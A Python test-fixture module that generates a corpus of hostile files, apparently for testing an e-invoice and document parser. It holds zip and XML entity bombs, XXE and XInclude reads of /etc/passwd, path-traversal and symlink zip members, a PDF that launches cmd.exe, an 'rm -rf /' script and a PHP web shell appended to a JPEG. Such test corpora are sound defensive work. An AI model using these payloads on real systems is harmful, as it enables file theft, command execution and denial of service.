"""Files made to hurt whoever opens them, by name. Made when asked for; none is kept on disk."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from . import make

FACTS = make.Facts()
XML = make.xml_text(FACTS)
PARTS = make.ofd_parts(FACTS)
OFD = make.zipped(PARTS)
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
# The test file of all virus scanners; harmless. In two halves, so that no scanner takes this file for it.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LONG_NAME = "长" * 85


def members() -> list[tuple[str, bytes]]:
    return [(path, text.encode()) for path, text in PARTS.items()]


def zipped(entries: list[tuple[str, bytes]], **changes) -> bytes:
    """A zip of `entries`, doubles allowed; `changes` are set on every entry."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that a name stands twice is the point
        for name, content in entries:
            info = zipfile.ZipInfo(name)
            for key, value in changes.items():
                setattr(info, key, value)
            archive.writestr(info, content, compress_type=changes.get("compress_type", zipfile.ZIP_DEFLATED))
    return buffer.getvalue()


def patched(content: bytes, mark: bytes, offset: int, layout: str, value: int) -> bytes:
    """`content` with a number overwritten `offset` bytes into the first record that begins with `mark`."""
    start = content.index(mark) + offset
    return content[:start] + struct.pack(layout, value) + content[start + struct.calcsize(layout) :]


def ofd_with(**parts: str | bytes) -> bytes:
    """The honest OFD with some members added or replaced."""
    return make.zipped({**PARTS, **parts})


def pdf(*objects: bytes, root: bytes = b"", page: bytes = b"", trailer: bytes = b"", content: bytes = b"") -> bytes:
    """A PDF of one page. `objects` are numbered from 5; the others get what is added to catalogue, page or trailer."""
    stream = content or b"BT /F1 12 Tf 20 100 Td (Invoice) Tj ET"
    if not stream.startswith(b"<<"):
        stream = b"<< /Length %d >> stream\n%s\nendstream" % (len(stream), stream)
    size = b"" if b"/MediaBox" in page else b" /MediaBox [0 0 595 397]"
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 "
        b"/BaseFont /Helvetica >> >> >>%s %s >>" % (size, page),
        stream,
        *objects,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    end = b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, trailer, len(out))
    return out + head + table + end


def deflated(stream: bytes, times: int = 1) -> bytes:
    """`stream` as a PDF stream, packed `times` over."""
    for _ in range(times):
        stream = zlib.compress(stream, 1)
    filters = b" ".join([b"/FlateDecode"] * times)
    return b"<< /Length %d /Filter [%s] >> stream\n%s\nendstream" % (len(stream), filters, stream)


def picture(kind: str, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options) -> bytes:
    """A blank image."""
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, kind, **options)
    return buffer.getvalue()


def png(width: int, height: int, body: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A grey PNG that says it has this size, whatever `body` holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    every = [(b"IHDR", head), *chunks, (b"IDAT", body), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in every
    )


def tiff(width: int, height: int, loop: bool = False) -> bytes:
    """A TIFF directory without an image; with `loop` it is its own next one."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8)]
    body = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return (
        b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries)) + body + struct.pack("<I", 8 if loop else 0)
    )


def gif(width: int, height: int, frames: int) -> bytes:
    """An animation whose frames say little and weigh much."""
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x4c\x01\x00"
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return head + frame * frames + b"\x3b"


def nested(levels: int) -> bytes:
    """A zip in a zip in a zip."""
    content = zipped([("zeros", b"\0" * 2**20)])
    for level in range(levels):
        content = zipped([(f"{level}/{copy}.zip", content) for copy in range(8)])
    return content


def bomb(megabytes: int, name: str = "Doc_0/bomb.xml") -> bytes:
    return zipped([*members(), (name, b" " * megabytes * 2**20)])


def symlink() -> bytes:
    link = zipfile.ZipInfo("Doc_0/link.xml")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    buffer = io.BytesIO(OFD)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def entities(levels: int = 9) -> str:
    words = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels))
    return f"{DECLARATION}<!DOCTYPE EInvoice [{words}]><EInvoice>&a{levels - 1};</EInvoice>"


_JS = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
_LAUNCH = b"/OpenAction << /S /Launch /F (cmd.exe) >>"
_LOCKED = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -60 /O <%s> /U <%s> >> /ID [<00><00>]" % (b"41" * 32, b"42" * 32)
_NAMES = b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a) /EF << /F 5 0 R >> >>] >> >>"

CORPUS: dict[str, Callable[[], bytes]] = {
    # nothing, and nothing in particular
    "nothing": lambda: b"",
    "one zero": lambda: b"\0",
    "zeros": lambda: b"\0" * 2**20,
    "eicar": lambda: EICAR,
    "a program": lambda: b"MZ" + b"\x90" * 4_000,
    "a script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "an old office document": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4_000,
    "a web page": lambda: b"<!doctype html><script>alert(1)</script>",
    "larger than may be": lambda: b"<" * (20 * 2**20 + 1),
    # XML
    "entity bomb": lambda: entities().encode(),
    "quadratic entities": lambda: f'<!DOCTYPE a [<!ENTITY x "{"x" * 50_000}">]><a>{"&x;" * 5_000}</a>'.encode(),
    "entity of a file": lambda: XML.replace("<EInvoice", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><EInvoice', 1).encode(),
    "entity of an address": lambda: XML.replace("<EInvoice", '<!DOCTYPE a SYSTEM "http://127.0.0.1:1/x.dtd"><EInvoice', 1).encode(),
    "parameter entities": lambda: b'<!DOCTYPE a [<!ENTITY % p "<!ENTITY q \'&#37;p;\'>"> %p;]><a/>',
    "utf-7": lambda: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-<a/>',
    "utf-16": lambda: XML.encode("utf-16"),
    "utf-32": lambda: XML.encode("utf-32"),
    "latin": lambda: f'<?xml version="1.0" encoding="ISO-8859-1"?>{XML}'.encode(),
    "deep": lambda: b"<a>" * 100_000 + b"</a>" * 100_000,
    "wide": lambda: b"<EInvoice>" + b"<a/>" * 1_000_000 + b"</EInvoice>",
    "many names": lambda: b"<a>" + b"".join(b"<n%d/>" % n for n in range(100_000)) + b"</a>",
    "many attributes": lambda: b"<a " + b" ".join(b'n%d="1"' % n for n in range(50_000)) + b"/>",
    "long text": lambda: b"<EInvoice>" + b"x" * (15 * 2**20) + b"</EInvoice>",
    "xinclude": lambda: b'<EInvoice xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></EInvoice>',
    "stylesheet": lambda: b'<?xml-stylesheet href="file:///etc/passwd"?><EInvoice/>',
    "cut xml": lambda: XML.encode()[: len(XML) // 2],
    "two documents in one xml": lambda: (XML + XML).encode(),
    # zip
    "no zip at all": lambda: b"PK\x03\x04" + b"\xff" * 4_000,
    "cut ofd": lambda: OFD[: len(OFD) // 2],
    "ofd without its end": lambda: OFD[:-22],
    "ratio bomb": lambda: bomb(60),
    "bomb of many": lambda: zipped([*members(), *((f"{n}.xml", b" " * 2**22) for n in range(40))]),
    "too many members": lambda: zipped([*members(), *((f"Doc_0/{n}", b"") for n in range(5_000))]),
    "directory of lies": lambda: patched(OFD, b"PK\1\2", 24, "<L", 2**31),
    "header of lies": lambda: patched(OFD, b"PK\3\4", 22, "<L", 2**31),
    "nested bomb": lambda: nested(4),
    "overlapping members": lambda: patched(OFD, b"PK\1\2", 42, "<L", 40),
    "duplicate member": lambda: zipped([*members(), ("OFD.xml", b"<a/>")]),
    "duplicate by case": lambda: zipped([*members(), ("ofd.XML", b"<a/>")]),
    "member outside": lambda: zipped([*members(), ("../../etc/cron.d/x", b"a")]),
    "member at the root": lambda: zipped([*members(), ("/etc/passwd", b"a")]),
    "member with backslashes": lambda: zipped([*members(), ("..\\..\\x", b"a")]),
    "member with a zero in its name": lambda: zipped([*members(), ("Doc_0/a.xml", b"a")]).replace(b"Doc_0/a.xml", b"Doc_0/\0.xml"),
    "member with a long name": lambda: zipped([*members(), (LONG_NAME * 100, b"a")]),
    "symlink": symlink,
    "encrypted zip": lambda: patched(OFD, b"PK\1\2", 8, "<H", 1),
    "bzip2": lambda: zipped(members(), compress_type=zipfile.ZIP_BZIP2),
    "lzma": lambda: zipped(members(), compress_type=zipfile.ZIP_LZMA),
    "zip with a comment": lambda: OFD[:-2] + b"\x04\x00evil",
    "location outside": lambda: ofd_with(**{make.DOCUMENT: PARTS[make.DOCUMENT].replace("Tpls/Tpl_0/Content.xml", "../../../etc/passwd")}),
    "location of itself": lambda: ofd_with(**{make.DOCUMENT: PARTS[make.DOCUMENT].replace("Tpls/Tpl_0/Content.xml", "Document.xml")}),
    "doctype in a part": lambda: ofd_with(**{make.DOCUMENT: entities()}),
    "two documents": lambda: make.changed_ofd(FACTS, "OFD.xml", "</ofd:DocBody>", "</ofd:DocBody><ofd:DocBody/>"),
    "one page a thousand times": lambda: make.changed_ofd(FACTS, make.DOCUMENT, "<ofd:Pages>", "<ofd:Pages>" + '<ofd:Page ID="9" BaseLoc="Pages/Page_0/Content.xml"/>' * 1_000),
    "a word document": lambda: zipped([("word/document.xml", b"<a/>")]),
    "a word document with macros": lambda: zipped([("word/document.xml", b"<a/>"), ("word/vbaProject.bin", b"\xd0\xcf")]),
    # PDF
    "bare pdf": lambda: b"%PDF-1.7\n",
    "cut pdf": lambda: pdf()[:200],
    "encrypted pdf": lambda: pdf(trailer=_LOCKED),
    "pdf with a script": lambda: pdf(root=_JS),
    "pdf that starts a program": lambda: pdf(root=_LAUNCH),
    "pdf with a script on its page": lambda: pdf(page=b"/AA << /O << /S /JavaScript /JS (1) >> >>"),
    "double flate": lambda: pdf(content=deflated(b"\0" * 200 * 2**20, 2)),
    "triple flate": lambda: pdf(content=deflated(b" " * 200 * 2**20, 3)),
    "operator bomb": lambda: pdf(content=deflated(b"q 1 0 0 1 0 0 cm BT /F1 9 Tf (x) Tj ET " * 1_000_000)),
    "states without end": lambda: pdf(content=deflated(b"q " * 5_000_000)),
    "curves without end": lambda: pdf(content=deflated(b"0 0 m " + b"1 2 3 4 5 6 c " * 2_000_000 + b"S")),
    "giant page": lambda: pdf(page=b"/MediaBox [0 0 14400 14400] /UserUnit 1000"),
    "endless page": lambda: pdf(page=b"/MediaBox [0 0 1e30 1e30]"),
    "page of no size": lambda: pdf(page=b"/MediaBox [0 0 0 0]"),
    "ten thousand pages": lambda: pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [%s] /Count 10000" % (b"3 0 R " * 10_000)),
    "pages in a ring": lambda: pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    "attachment bomb": lambda: pdf(deflated(b"\0" * 200 * 2**20, 2), root=_NAMES),
    "attachment of an entity bomb": lambda: pdf(deflated(entities().encode()), root=_NAMES),
    "attachment that is a program": lambda: pdf(deflated(b"MZ" + b"\0" * 99), root=_NAMES),
    "image flood in a pdf": lambda: pdf(
        b"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 9 >> stream\n123456789\nendstream",
        content=b"q 500 0 0 300 0 0 cm /I Do Q", page=b"/XObject << /I 5 0 R >>",
    ),
    "form that draws itself": lambda: pdf(
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Length 10 >> stream\n/X Do /X Do\nendstream",
        content=b"/X Do",
    ),
    "pdf with another file behind it": lambda: pdf() + OFD,
    "pdf behind a script": lambda: b"#!/bin/sh\necho hi\n" + pdf(),
    "pdf and zip at once": lambda: pdf() + zipped([("word/document.xml", b"<a/>")]),
    "numbers without end": lambda: pdf(content=b"9" * 2**20 + b" w"),
    "arrays in arrays": lambda: pdf(b"[" * 200_000 + b"]" * 200_000),
    # images
    "bare png": lambda: b"\x89PNG\r\n\x1a\n",
    "pixel flood": lambda: png(60_000, 60_000, zlib.compress(b"\0" * 1_000)),
    "pixel flood that is there": lambda: png(12_000, 12_000, zlib.compress(b"\0" * 12_001 * 12_000, 1)),
    "one endless row": lambda: png(2**31 - 1, 1, zlib.compress(b"\0")),
    "png text bomb": lambda: png(9, 9, zlib.compress(b"\0" * 90), (b"zTXt", b"a\0\0" + zlib.compress(b"a" * 200 * 2**20, 1))),
    "png profile bomb": lambda: png(9, 9, zlib.compress(b"\0" * 90), (b"iCCP", b"a\0\0" + zlib.compress(b"a" * 200 * 2**20, 1))),
    "png with a zip behind it": lambda: picture("PNG") + OFD,
    "cut png": lambda: picture("PNG", (900, 900))[:120],
    "cut jpeg": lambda: picture("JPEG", (900, 900))[:300],
    "jpeg that says it is large": lambda: patched(picture("JPEG"), b"\xff\xc0", 5, ">H", 65_500),
    "jpeg with a script behind it": lambda: picture("JPEG") + b"<?php system($_GET[0]); ?>",
    "jpeg of many scans": lambda: b"\xff\xd8\xff\xc2\x00\x0b\x08\xff\xdc\xff\xdc\x01\x01\x11\x00" + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x00" * 90_000,
    "gif": lambda: picture("GIF"),
    "gif of many frames": lambda: gif(20_000, 20_000, 20_000),
    "tiff": lambda: picture("TIFF"),
    "tiff that is large": lambda: tiff(2**31, 2**31),
    "tiff in a ring": lambda: tiff(9, 9, loop=True),
    "webp": lambda: picture("WEBP"),
    "cut webp": lambda: picture("WEBP", (900, 900))[:40],
    "webp that says it is large": lambda: b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0\x10\0\0\0\xff\xff\xff\xff\xff\xff",
    "bitmap": lambda: b"BM" + struct.pack("<IHHIIiiHHIIiiII", 2**31 - 1, 0, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0),
    "heic": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 400,
}  # fmt: skip
